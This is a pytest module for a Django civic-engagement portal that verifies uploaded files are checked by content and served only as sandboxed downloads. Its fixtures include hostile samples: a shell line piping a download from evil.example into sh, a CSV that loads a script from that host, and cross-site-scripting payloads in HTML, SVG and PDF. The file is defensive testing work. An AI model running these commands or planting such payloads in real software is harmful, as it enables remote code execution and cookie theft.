"""Uploads, on every path that stores a file: refused by their bytes (not their names) when they
are not what they claim, too big, empty, an archive, a program, or a web page, SVG or script;
and served only as downloads that a browser will not run.

The upload paths are taskforce evidence (taskforce.services.actions.update_post) and consultation
documents (engagement.services.consultations.document_add). Both call luton2040.uploads with
their own list of accepted types. A new FileField fails test_every_stored_file_is_covered_here
until its upload and serving paths are added to this module.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, cast

import pytest
from django.apps import apps
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.test import Client
from django.urls import reverse

from engagement.models import Consultation, ConsultationDocument
from engagement.services.consultations import DOCUMENT_TYPES, document_add
from luton2040.accounts.models import User
from luton2040.uploads import SERVED_TYPES
from taskforce.models import Action, Evidence
from taskforce.services.actions import EvidenceInput, update_post
from taskforce.services.evidence import CONTENT_TYPES as EVIDENCE_TYPES

from ..factories import ActionFactory, ConsultationFactory

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
# A PDF that also holds markup: harmless, because it is only ever served as a PDF attachment.
PDF_WITH_SCRIPT = b"%PDF-1.4\n<html><script>alert(document.cookie)</script></html>\n%%EOF\n"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00"
    b"\x00\x00\x00IEND\xaeB`\x82"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>'
XML = b'<?xml version="1.0"?><note><to>Luton</to></note>'
SHELL = b"#!/bin/sh\ncurl https://evil.example | sh\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64 + b"This program"
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 64


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        member = tarfile.TarInfo("proposal.pdf")
        member.size = len(PDF)
        archive.addfile(member, io.BytesIO(PDF))
    return buffer.getvalue()


DOCX = _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
ODS = _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"})
ARCHIVES = {
    "zip": _zip({"proposal.pdf": PDF}),
    "gzip": gzip.compress(PDF),
    "bzip2": bz2.compress(PDF),
    "xz": lzma.compress(PDF),
    "tar": _tar(),
    # 7z and RAR cannot be written by the standard library: their signatures are what matter.
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24,
    "rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 24,
}


def _runnable(content_type: str) -> bool:
    """Whether a browser would render this type as a page or run it as script (HTML, SVG and
    other XML, JavaScript): never a type an upload is served as."""
    mime = content_type.split(";")[0].strip().lower()
    return (
        mime in {"text/html", "text/xml", "application/xml", "text/xsl"}
        or mime.endswith(("+xml", "/xml"))
        or "javascript" in mime
        or "ecmascript" in mime
    )


# --- the two upload paths -------------------------------------------------------------------


@dataclass(frozen=True)
class UploadPath:
    """One way a file gets stored, through its real service."""

    accepted: dict[str, str]
    store: Callable[..., Any]  # (data, file name, declared size=len(data)) -> the stored row
    rows: Callable[[], int]
    max_bytes_setting: str


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def evidence_path(taskforce_lead: User) -> UploadPath:
    action = cast(Action, ActionFactory(lead_member=taskforce_lead))

    def store(data: bytes, name: str, size: int | None = None) -> Evidence:
        update = update_post(
            action=action,
            by=taskforce_lead,
            body="Minutes attached.",
            evidence=[
                EvidenceInput(
                    title="Minutes",
                    file=io.BytesIO(data),
                    file_name=name,
                    file_size=len(data) if size is None else size,
                )
            ],
        )
        return Evidence.objects.get(update=update)

    return UploadPath(
        accepted=EVIDENCE_TYPES,
        store=store,
        rows=Evidence.objects.count,
        max_bytes_setting="TASKFORCE_EVIDENCE_MAX_BYTES",
    )


@pytest.fixture
def document_path(staff: User) -> UploadPath:
    consultation = cast(Consultation, ConsultationFactory(status=Consultation.Status.OPEN))

    def store(data: bytes, name: str, size: int | None = None) -> ConsultationDocument:
        return document_add(
            consultation=consultation,
            by=staff,
            title="The proposal",
            upload=io.BytesIO(data),
            file_name=name,
            file_size=len(data) if size is None else size,
        )

    return UploadPath(
        accepted=DOCUMENT_TYPES,
        store=store,
        rows=ConsultationDocument.objects.count,
        max_bytes_setting="ENGAGEMENT_DOCUMENT_MAX_BYTES",
    )


@pytest.fixture(params=["evidence", "consultation document"])
def path(request: pytest.FixtureRequest) -> UploadPath:
    fixture = {"evidence": "evidence_path", "consultation document": "document_path"}
    return request.getfixturevalue(fixture[request.param])  # type: ignore[no-any-return]


def _refused(path: UploadPath, data: bytes, name: str, media: Path) -> str:
    """Upload through the real service; it must be refused with nothing stored. Returns the code."""
    with pytest.raises(ValidationError) as refused:
        path.store(data, name)
    assert path.rows() == 0
    assert not [f for f in media.rglob("*") if f.is_file()]
    return str(refused.value.code)


# --- refused by their bytes -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (HTML, "proposal.pdf"),
        (SVG, "proposal.pdf"),
        (XML, "proposal.pdf"),
        (SHELL, "proposal.pdf"),
        (EXE, "proposal.pdf"),
        (ELF, "proposal.pdf"),
        (PNG, "proposal.pdf"),
        (PDF, "proposal.docx"),
        (HTML, "proposal.docx"),
        (SVG, "photo.png"),
        (SHELL, "photo.png"),
        (HTML, "photo.jpg"),
        (HTML, "figures.csv"),
        (SVG, "notes.txt"),
        (XML, "notes.txt"),
        (b"ward,count\n<script src=//evil.example/x.js></script>", "figures.csv"),
        (PDF, "figures.ods"),
        (DOCX, "figures.ods"),
        (ODS, "proposal.docx"),
    ],
)
def test_a_file_whose_bytes_are_not_what_its_name_says_is_refused(
    path: UploadPath, data: bytes, name: str, _media: Path
) -> None:
    code = _refused(path, data, name, _media)
    if name.rsplit(".", 1)[-1] in path.accepted:
        assert code != "wrong_type"  # refused for what it is, not for its name


@pytest.mark.parametrize("archive", list(ARCHIVES))
@pytest.mark.parametrize(
    "name", ["proposal.pdf", "proposal.docx", "figures.xlsx", "figures.ods", "notes.txt"]
)
def test_archives_are_refused_whatever_they_are_called(
    path: UploadPath, archive: str, name: str, _media: Path
) -> None:
    code = _refused(path, ARCHIVES[archive], name, _media)
    if name.rsplit(".", 1)[-1] in path.accepted:
        assert code in {"mismatch", "binary"}


@pytest.mark.parametrize(
    "name",
    [
        "page.html",
        "page.htm",
        "page.xhtml",
        "drawing.svg",
        "script.js",
        "data.xml",
        "files.zip",
        "files.7z",
        "files.rar",
        "files.tar.gz",
        "setup.exe",
        "no-extension",
    ],
)
def test_types_no_path_accepts_are_refused_by_name(
    path: UploadPath, name: str, _media: Path
) -> None:
    assert _refused(path, PDF, name, _media) == "wrong_type"


def test_an_office_file_with_macros_is_refused(path: UploadPath, _media: Path) -> None:
    macro = _zip({"word/document.xml": b"<w/>", "word/vbaProject.bin": b"Sub AutoOpen()"})
    assert _refused(path, macro, "proposal.docx", _media) == "macros"


def test_an_empty_file_is_refused(path: UploadPath, _media: Path) -> None:
    assert _refused(path, b"", "proposal.pdf", _media) == "empty"


def test_an_oversized_file_is_refused_even_when_its_declared_size_lies(
    path: UploadPath, settings: Any, _media: Path
) -> None:
    setattr(settings, path.max_bytes_setting, len(PDF) - 1)
    assert _refused(path, PDF, "proposal.pdf", _media) == "too_big"
    with pytest.raises(ValidationError) as refused:
        path.store(PDF, "proposal.pdf", 1)  # the browser's word for the size is not trusted
    assert refused.value.code == "too_big"
    assert path.rows() == 0

    setattr(settings, path.max_bytes_setting, len(PDF))
    assert path.store(PDF, "proposal.pdf").size == len(PDF)  # exactly the limit is fine


# --- accepted -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name", "content_type"),
    [
        (PDF, "proposal.pdf", "application/pdf"),
        (PDF_WITH_SCRIPT, "proposal.pdf", "application/pdf"),
        (
            DOCX,
            "proposal.docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (ODS, "figures.ods", "application/vnd.oasis.opendocument.spreadsheet"),
    ],
)
def test_real_documents_are_accepted_with_the_type_their_bytes_show(
    path: UploadPath, data: bytes, name: str, content_type: str
) -> None:
    stored = path.store(data, name)
    assert stored.content_type == content_type
    assert stored.file.read() == data
    stored.file.close()


def test_each_path_serves_only_types_from_the_platform_allow_list() -> None:
    assert _runnable("image/svg+xml") and _runnable("text/html; charset=utf-8")  # the check bites
    for accepted in (EVIDENCE_TYPES, DOCUMENT_TYPES):
        for extension, content_type in accepted.items():
            assert SERVED_TYPES[extension] == content_type
    for content_type in SERVED_TYPES.values():
        assert not _runnable(content_type), content_type


# --- through the pages ----------------------------------------------------------------------


def _text(response: Any) -> str:
    return response.content.decode().replace("&#x27;", "'")


def test_evidence_form_refuses_an_archive_and_keeps_what_was_typed(
    client: Client, taskforce_member: User, _media: Path
) -> None:
    action = ActionFactory(lead_member=taskforce_member)
    client.force_login(taskforce_member)
    response = client.post(
        reverse("taskforce:update-create", kwargs={"reference": action.reference}),
        {
            "body": "We met the food bank.",
            "evidence-TOTAL_FORMS": "1",
            "evidence-INITIAL_FORMS": "0",
            "evidence-0-title": "Minutes",
            "evidence-0-file": SimpleUploadedFile("minutes.pdf", ARCHIVES["zip"]),
        },
    )
    assert response.status_code == 400
    page = _text(response)
    assert "There is a problem" in page
    assert "it is not a real .pdf file" in page
    assert "We met the food bank." in page
    assert not Evidence.objects.exists()
    assert not [f for f in _media.rglob("*") if f.is_file()]


def test_document_form_refuses_an_svg_called_png_or_svg(
    client: Client, staff: User, _media: Path
) -> None:
    consultation = ConsultationFactory()
    client.force_login(staff)
    url = reverse("engagement-staff:documents", args=[consultation.slug])
    for name, message in [
        ("map.svg", "The selected file must be a PDF, Word (.docx)"),
        ("map.pdf", "it is not a real .pdf file"),
    ]:
        response = client.post(
            url,
            {
                "title": "Route map",
                "kind": "main",
                "language": "",
                "file": SimpleUploadedFile(name, SVG, content_type="image/svg+xml"),
            },
        )
        assert response.status_code == 400
        page = _text(response)
        assert "There is a problem" in page
        assert message in page
        assert 'value="Route map"' in page
    assert not ConsultationDocument.objects.exists()
    assert not [f for f in _media.rglob("*") if f.is_file()]


# --- served only as downloads ---------------------------------------------------------------


def _drain(response: Any) -> bytes:
    # Read and close only the file: response.close() would also end the test's database
    # connection (request_finished).
    body = b"".join(response.streaming_content)
    for close in getattr(response, "_resource_closers", []):
        close()
    return body


def _assert_served_safely(response: Any, data: bytes) -> None:
    assert response.status_code == 200
    assert _drain(response) == data
    assert response["Content-Disposition"].startswith('attachment; filename="')
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] in SERVED_TYPES.values()
    assert not _runnable(response["Content-Type"])
    csp = response["Content-Security-Policy"]
    assert "sandbox" in [part.strip().split(" ")[0] for part in csp.split(";")]
    assert "default-src 'none'" in csp


@pytest.mark.parametrize(
    ("data", "name"), [(PDF_WITH_SCRIPT, "proposal.pdf"), (DOCX, "proposal.docx")]
)
def test_evidence_is_served_as_a_sandboxed_attachment(
    client: Client, evidence_path: UploadPath, taskforce_lead: User, data: bytes, name: str
) -> None:
    evidence = evidence_path.store(data, name)
    client.force_login(taskforce_lead)
    response = client.get(reverse("taskforce:evidence-download", kwargs={"pk": evidence.pk}))
    _assert_served_safely(response, data)
    assert response["Content-Type"] == EVIDENCE_TYPES[name.rsplit(".", 1)[-1]]


@pytest.mark.parametrize(
    ("data", "name"), [(PDF_WITH_SCRIPT, "proposal.pdf"), (DOCX, "proposal.docx")]
)
def test_consultation_documents_are_served_as_sandboxed_attachments(
    client: Client, document_path: UploadPath, data: bytes, name: str
) -> None:
    document = document_path.store(data, name)
    url = reverse(
        "engagement:consultation-document", args=[document.consultation.slug, document.pk]
    )
    response = client.get(url)  # anonymous: the consultation is open to everyone
    _assert_served_safely(response, data)
    assert response["Content-Type"] == DOCUMENT_TYPES[name.rsplit(".", 1)[-1]]


def test_every_stored_file_is_covered_here() -> None:
    """The upload and serving tests above cover exactly these file fields. A new one must get
    an upload path through luton2040.uploads and a serving view tested in this module."""
    file_fields = {
        f"{model._meta.label}.{field.name}"
        for model in apps.get_models()
        for field in model._meta.get_fields()
        if isinstance(field, models.FileField)
    }
    assert file_fields == {"taskforce.Evidence.file", "engagement.ConsultationDocument.file"}


def test_media_url_serves_nothing_with_production_settings(tmp_path: Path) -> None:
    """Uploaded files are reachable only through the views above: with the settings a live
    deploy gets (a fresh process, DEBUG off), /media/<the stored path> is a 404."""
    stored = tmp_path / "taskforce" / "evidence" / "0123456789abcdef.pdf"
    stored.parent.mkdir(parents=True)
    stored.write_bytes(PDF)
    code = (
        "import django; django.setup(); from django.conf import settings; "
        "from django.test import Client; "
        "assert not settings.DEBUG; "
        "r = Client().get('/media/taskforce/evidence/0123456789abcdef.pdf', secure=True, "
        "HTTP_HOST='portal.luton2040.example'); "
        "print(r.status_code)"
    )
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("DJANGO_", "REDIS_"))}
    env = {
        **clean,
        "DJANGO_SETTINGS_MODULE": "luton2040.settings",
        "DJANGO_SECRET_KEY": "a-long-random-production-key-" + "x7Gq9vR2mK4pL8sT1wZ5" * 3,
        "DJANGO_ALLOWED_HOSTS": "portal.luton2040.example",
        "DJANGO_MEDIA_ROOT": str(tmp_path),
        # The 404 page needs static file names; collectstatic is not run in tests.
        "DJANGO_STATIC_MANIFEST": "0",
    }
    result = subprocess.run(  # noqa: S603  our own settings module, fixed arguments
        [sys.executable, "-c", code],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip().splitlines()[-1] == "404"
